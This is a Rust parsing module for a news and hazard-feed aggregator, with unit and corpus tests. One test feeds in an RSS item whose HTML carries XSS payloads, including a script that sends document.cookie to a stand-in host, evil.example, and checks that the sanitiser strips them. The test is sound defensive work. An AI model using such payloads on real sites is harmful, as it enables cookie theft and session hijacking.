//! Raw bytes of one fetch → normalized items.
//!
//! [`parse`] dispatches on the source's kind: the kemlu portal's JSON API ([`kemlu`]),
//! RSS/Atom/JSON feeds ([`feed`]), sitemaps ([`sitemap`]) and the hazard feeds ([`hazard`]:
//! USGS, GDACS, BMKG, ReliefWeb). An article page a listing or sitemap linked to
//! (`RawMeta::article`) goes to [`article`] whatever its source's kind; an `html_list`
//! listing page itself gives no items (its articles do). The helpers every format
//! shares live beside them: [`text`] (HTML → plain text), [`url`] (canonical URLs) and
//! [`date`] (dates, with how their zone was decided).
//!
//! A parser never panics on its input: bad input is a [`ParseError`], and a publication that
//! lacks what an item needs is skipped with a warning rather than failing its whole page.

pub mod article;
pub mod date;
pub mod feed;
mod feed_reader;
pub mod hazard;
pub mod html_list;
pub mod kemlu;
pub mod language;
pub mod sitemap;
pub mod text;
pub mod url;

use std::panic::{AssertUnwindSafe, catch_unwind};

use chrono_tz::Tz;

use crate::model::{NormalizedItem, RawMeta, SourceKind, TimeBasis};

/// Summaries made from a body are cut to about this many characters.
pub const SUMMARY_CHARS: usize = 300;

/// One raw object to parse, with what the registry knows about its source.
#[derive(Debug, Clone, Copy)]
pub struct ParseInput<'a> {
    pub body: &'a [u8],
    pub meta: &'a RawMeta,
    pub raw_key: &'a str,
    /// IANA zone for dates the source writes without one.
    pub time_zone: &'a str,
    /// The language the registry says the source publishes in, for items that do not say.
    pub source_language: Option<&'a str>,
}

/// Why a raw object gave no items. Every variant names the raw object.
#[derive(Debug, thiserror::Error)]
pub enum ParseError {
    #[error("{raw_key}: no parser for source kind `{kind}` yet")]
    Unsupported { raw_key: String, kind: SourceKind },
    #[error("{raw_key}: time zone `{zone}` is not an IANA zone name")]
    UnknownTimeZone { raw_key: String, zone: String },
    #[error("{raw_key}: body is not JSON: {reason}")]
    NotJson { raw_key: String, reason: String },
    #[error("{raw_key}: JSON is not the shape expected: {reason}")]
    UnexpectedShape { raw_key: String, reason: String },
    #[error("{raw_key}: not a feed (RSS, Atom or JSON Feed): {reason}")]
    NotAFeed { raw_key: String, reason: String },
    /// An HTML page with no main text to extract (or a listing page its selectors miss).
    #[error("{raw_key}: no article found: {reason}")]
    NotAnArticle { raw_key: String, reason: String },
    /// A bug in a parser (ours or a library's) met this input; it is a bad-input error to
    /// the caller, so one odd object cannot crash a batch.
    #[error("{raw_key}: the {parser} parser panicked: {message}")]
    Panicked {
        raw_key: String,
        parser: &'static str,
        message: String,
    },
}

impl ParseError {
    pub fn raw_key(&self) -> &str {
        match self {
            ParseError::Unsupported { raw_key, .. }
            | ParseError::UnknownTimeZone { raw_key, .. }
            | ParseError::NotJson { raw_key, .. }
            | ParseError::UnexpectedShape { raw_key, .. }
            | ParseError::NotAFeed { raw_key, .. }
            | ParseError::NotAnArticle { raw_key, .. }
            | ParseError::Panicked { raw_key, .. } => raw_key,
        }
    }
}

type FormatParser = fn(&ParseInput, Tz) -> Result<Vec<NormalizedItem>, ParseError>;

/// The items in one raw object, in the order the source lists them.
pub fn parse(input: &ParseInput) -> Result<Vec<NormalizedItem>, ParseError> {
    let (name, run): (&'static str, FormatParser) = match input.meta.kind {
        _ if input.meta.article => ("article", article::parse),
        SourceKind::KemluPortal => ("kemlu portal", kemlu::parse),
        SourceKind::Feed => ("feed", feed::parse),
        SourceKind::Sitemap => ("sitemap", sitemap::parse),
        SourceKind::HtmlList => ("html listing", listing_page),
        SourceKind::Usgs => ("USGS", hazard::parse_usgs),
        SourceKind::Gdacs => ("GDACS", hazard::parse_gdacs),
        SourceKind::Bmkg => ("BMKG", hazard::parse_bmkg),
        SourceKind::Reliefweb => ("ReliefWeb", hazard::parse_reliefweb),
    };
    let zone = date::zone(input.time_zone).ok_or_else(|| ParseError::UnknownTimeZone {
        raw_key: input.raw_key.to_owned(),
        zone: input.time_zone.to_owned(),
    })?;
    // Every item's language is read from its text, with its declared one as the prior.
    let run_and_detect = || {
        run(input, zone).map(|mut items| {
            for item in &mut items {
                // Every parser's titles, made safe to show in one place (see the function).
                item.title = text::display_safe_title(&item.title);
                language::assign(item, input.source_language);
            }
            items
        })
    };
    catch_unwind(AssertUnwindSafe(run_and_detect)).unwrap_or_else(|payload| {
        let message = payload
            .downcast_ref::<&str>()
            .map(|s| s.to_string())
            .or_else(|| payload.downcast_ref::<String>().cloned())
            .unwrap_or_else(|| "(no message)".into());
        Err(ParseError::Panicked {
            raw_key: input.raw_key.to_owned(),
            parser: name,
            message,
        })
    })
}

/// An `html_list` listing page: its entries become items through their article pages, which
/// scrape fetches and stores, so the page itself gives none.
fn listing_page(_input: &ParseInput, _zone: Tz) -> Result<Vec<NormalizedItem>, ParseError> {
    Ok(Vec::new())
}

/// An item with the fetch's facts filled in and the publication's left empty.
fn new_item(input: &ParseInput, title: String) -> NormalizedItem {
    let meta = input.meta;
    NormalizedItem {
        mission: meta.mission.clone(),
        source: meta.source.clone(),
        kind: meta.kind,
        role: meta.role,
        guid: None,
        url: None,
        title,
        summary: None,
        body: None,
        published_at: meta.fetched_at,
        published_raw: None,
        time_basis: TimeBasis::FetchTime,
        language: None,
        authors: Vec::new(),
        categories: Vec::new(),
        images: Vec::new(),
        fetched_at: meta.fetched_at,
        raw_key: input.raw_key.to_owned(),
        hazard: None,
    }
}

/// The primary subtag of a language tag, lower case (`en-US` → `en`, `id_ID` → `id`);
/// None when it does not look like one.
pub fn primary_language(tag: &str) -> Option<String> {
    let primary = tag.trim().split(['-', '_']).next()?.to_ascii_lowercase();
    let plausible =
        (2..=3).contains(&primary.len()) && primary.bytes().all(|b| b.is_ascii_lowercase());
    plausible.then_some(primary)
}

/// Pushes `value` unless it is empty or already there.
fn push_unique(list: &mut Vec<String>, value: String) {
    if !value.is_empty() && !list.contains(&value) {
        list.push(value);
    }
}

#[cfg(test)]
pub(crate) mod test_support {
    use chrono::{DateTime, Utc};

    use crate::model::{RawMeta, Role, SourceKind};

    pub fn meta(kind: SourceKind, mission: &str, url: &str) -> RawMeta {
        let fetched_at = DateTime::parse_from_rfc3339("2025-02-01T00:00:00Z")
            .unwrap()
            .with_timezone(&Utc);
        RawMeta {
            sha256: "00".into(),
            ..RawMeta::fetched(kind, Role::Official, mission, "src", url, fetched_at)
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    /// Items keep no HTML (body and summary are plain text), so nothing in them can run:
    /// scripts, event handlers and `javascript:` links in a feed's HTML leave no trace.
    /// (A title is text, not HTML: a literal `<` in one stays, for the reader to escape.)
    #[test]
    fn feed_html_leaves_no_markup_and_items_get_a_language() {
        let rss = r#"<rss version="2.0"><channel><title>KBRI</title><language>id</language>
<item><title>Pameran batik di Tokyo</title>
<link>https://example.org/a</link>
<description><![CDATA[<p onclick="steal()">Kedutaan Besar Republik Indonesia menggelar pameran batik
<img src="x" onerror="alert(document.cookie)">selama tiga hari.</p>
<script>document.location='https://evil.example/'+document.cookie</script>
<a href="javascript:alert(1)">Baca selengkapnya</a><iframe src="javascript:alert(2)"></iframe>]]></description>
</item>
<item><title>The embassy opens a new consular service for Indonesian citizens living in Japan</title>
<link>https://example.org/b</link></item>
</channel></rss>"#;
        let meta = test_support::meta(SourceKind::Feed, "tokyo", "https://example.org/feed");
        let input = ParseInput {
            body: rss.as_bytes(),
            meta: &meta,
            raw_key: "raw/k.xml",
            time_zone: "Asia/Tokyo",
            source_language: Some("id"),
        };
        let items = parse(&input).unwrap();
        assert_eq!(items.len(), 2);
        let first = &items[0];
        let texts = [
            Some(first.title.as_str()),
            first.summary.as_deref(),
            first.body.as_deref(),
        ];
        for text in texts.into_iter().flatten() {
            for bad in [
                "<",
                "onerror",
                "onclick",
                "javascript:",
                "document.cookie",
                "steal(",
            ] {
                assert!(!text.contains(bad), "{bad:?} in {text:?}");
            }
        }
        assert!(
            first
                .summary
                .as_deref()
                .unwrap()
                .contains("menggelar pameran batik"),
            "{first:?}"
        );
        assert_eq!(first.language.as_deref(), Some("id"));
        assert_eq!(
            items[1].language.as_deref(),
            Some("en"),
            "its text, not the feed's tag"
        );
    }

    #[test]
    fn listing_pages_give_no_items_articles_go_to_the_extractor_and_bad_zones_fail() {
        let meta = test_support::meta(SourceKind::HtmlList, "global", "https://example.org/");
        let page = "<html lang=\"en\"><head><title>Envoy visits port</title></head><body><article>\
            <h1>Envoy visits port</h1><p>The ambassador visited the port on Monday to meet \
            Indonesian crew members working on fishing vessels there.</p><p>He listened to \
            their concerns about contracts, wages and passports, and promised help.</p>\
            </article></body></html>";
        let input = ParseInput {
            body: page.as_bytes(),
            meta: &meta,
            raw_key: "raw/k.html",
            time_zone: "UTC",
            source_language: None,
        };
        assert!(parse(&input).unwrap().is_empty(), "a listing page");

        let article_meta = RawMeta {
            article: true,
            ..meta.clone()
        };
        let input = ParseInput {
            meta: &article_meta,
            ..input
        };
        let items = parse(&input).unwrap();
        assert_eq!(items.len(), 1, "an article page");
        assert_eq!(items[0].title, "Envoy visits port");
        assert_eq!(items[0].kind, SourceKind::HtmlList);

        let meta = test_support::meta(SourceKind::Feed, "tokyo", "https://example.org/");
        let input = ParseInput {
            meta: &meta,
            time_zone: "Asia/Nowhere",
            ..input
        };
        let err = parse(&input).unwrap_err();
        assert!(matches!(err, ParseError::UnknownTimeZone { .. }), "{err}");
        assert!(err.to_string().contains("raw/k.html"), "{err}");
    }

    #[test]
    fn language_tags_reduce_to_their_primary_subtag() {
        assert_eq!(primary_language("en-US").as_deref(), Some("en"));
        assert_eq!(primary_language(" ID_id ").as_deref(), Some("id"));
        assert_eq!(primary_language("x"), None);
        assert_eq!(primary_language("english"), None);
        assert_eq!(primary_language(""), None);
    }
}

/// Every file of the public feed corpora goes through [`parse`]: none may panic, and the
/// counts say how much of each corpus we read.
#[cfg(test)]
mod corpus_tests {
    use std::panic::{AssertUnwindSafe, catch_unwind};
    use std::path::{Path, PathBuf};

    use super::*;

    /// `shared/extdata` beside the project (`<project>/../shared/extdata`), found from the
    /// crate's directory upwards so a checkout at any depth (a worktree, say) finds it too.
    fn extdata() -> Option<PathBuf> {
        Path::new(env!("CARGO_MANIFEST_DIR"))
            .ancestors()
            .skip(1)
            .map(|dir| dir.join("shared/extdata"))
            .find(|dir| dir.is_dir())
    }

    #[derive(Debug, Default)]
    struct Tally {
        files: usize,
        with_items: usize,
        zero_items: usize,
        errors: usize,
        caught_panics: usize,
        escaped_panics: usize,
    }

    fn files_under(dir: &Path) -> Vec<PathBuf> {
        let mut out = Vec::new();
        let mut pending = vec![dir.to_path_buf()];
        while let Some(dir) = pending.pop() {
            let Ok(entries) = std::fs::read_dir(&dir) else {
                continue;
            };
            for entry in entries.flatten() {
                let path = entry.path();
                if path.is_dir() {
                    pending.push(path);
                } else {
                    out.push(path);
                }
            }
        }
        out.sort();
        out
    }

    fn run_all(paths: &[PathBuf]) -> Tally {
        let meta = test_support::meta(SourceKind::Feed, "tokyo", "https://example.org/feed");
        let mut tally = Tally::default();
        for path in paths {
            let Ok(body) = std::fs::read(path) else {
                continue;
            };
            tally.files += 1;
            let key = path.display().to_string();
            let input = ParseInput {
                body: &body,
                meta: &meta,
                raw_key: &key,
                time_zone: "Asia/Tokyo",
                source_language: None,
            };
            match catch_unwind(AssertUnwindSafe(|| parse(&input))) {
                Ok(Ok(items)) if items.is_empty() => tally.zero_items += 1,
                Ok(Ok(_)) => tally.with_items += 1,
                Ok(Err(ParseError::Panicked { message, .. })) => {
                    println!("  caught panic in {key}: {message}");
                    tally.caught_panics += 1;
                }
                Ok(Err(e)) => {
                    println!("  error: {e}");
                    tally.errors += 1;
                }
                Err(_) => {
                    println!("  PANIC escaped parse() on {key}");
                    tally.escaped_panics += 1;
                }
            }
        }
        tally
    }

    fn corpus(relative: &str) -> Option<Vec<PathBuf>> {
        let Some(dir) = extdata().map(|d| d.join(relative)).filter(|d| d.is_dir()) else {
            println!("skipping: corpus shared/extdata/{relative} is absent");
            return None;
        };
        Some(files_under(&dir))
    }

    #[test]
    fn feed_rs_fixtures_parse_without_panics() {
        let Some(files) = corpus("feed-rs-fixture") else {
            return;
        };
        // The fixtures hold feeds and, beside most, a `*.serde.json` with feed-rs's expected
        // model (plus LICENSE and SOURCE.txt): all go through, but only feeds are counted as
        // the figure that matters.
        let (expectations, feeds): (Vec<_>, Vec<_>) = files.into_iter().partition(|p| {
            let name = p.file_name().and_then(|n| n.to_str()).unwrap_or("");
            name.ends_with(".serde.json") || name == "LICENSE" || name == "SOURCE.txt"
        });
        let feeds_tally = run_all(&feeds);
        let others_tally = run_all(&expectations);
        println!("feed-rs fixture feeds: {feeds_tally:?}");
        println!("feed-rs fixture non-feed files: {others_tally:?}");
        assert_eq!(feeds_tally.escaped_panics + others_tally.escaped_panics, 0);
        assert_eq!(feeds_tally.caught_panics + others_tally.caught_panics, 0);
        assert!(feeds_tally.files >= 60, "{feeds_tally:?}");
        // Nearly every fixture is a real feed; a regression in the mapping shows up here.
        assert!(
            feeds_tally.with_items * 10 >= feeds_tally.files * 8,
            "{feeds_tally:?}"
        );
    }

    /// Most fixtures have feed-rs's expected model beside them: we must give one item per
    /// expected entry (an entry with nothing at all to show is the only one we drop).
    #[test]
    fn feed_rs_fixtures_give_one_item_per_expected_entry() {
        let Some(files) = corpus("feed-rs-fixture") else {
            return;
        };
        let meta = test_support::meta(SourceKind::Feed, "tokyo", "https://example.org/feed");
        let (mut compared, mut matching) = (0, 0);
        for path in &files {
            let name = path.to_string_lossy();
            let Some(stem) = name.strip_suffix(".serde.json") else {
                continue;
            };
            let Some(feed_path) = [".xml", ".json"]
                .iter()
                .map(|ext| PathBuf::from(format!("{stem}{ext}")))
                .find(|p| p.is_file())
            else {
                continue;
            };
            let expected: serde_json::Value =
                serde_json::from_slice(&std::fs::read(path).unwrap()).unwrap();
            let expected_entries = expected["entries"].as_array().map_or(0, Vec::len);
            let body = std::fs::read(&feed_path).unwrap();
            let key = feed_path.display().to_string();
            let got = parse(&ParseInput {
                body: &body,
                meta: &meta,
                raw_key: &key,
                time_zone: "UTC",
                source_language: None,
            })
            .map_or(0, |items| items.len());
            compared += 1;
            if got == expected_entries {
                matching += 1;
            } else {
                println!("  {key}: {got} items, feed-rs expects {expected_entries} entries");
            }
        }
        println!("feed-rs fixtures with expectations: {matching}/{compared} item counts match");
        assert!(compared >= 50, "{compared}");
        assert_eq!(matching, compared);
    }

    #[test]
    fn feedparser_illformed_cases_parse_without_panics() {
        let Some(files) = corpus("feedparser/tests/illformed") else {
            return;
        };
        let tally = run_all(&files);
        println!("feedparser illformed: {tally:?}");
        assert_eq!(tally.escaped_panics, 0);
        assert_eq!(tally.caught_panics, 0);
        assert!(tally.files >= 15, "{tally:?}");
    }
}
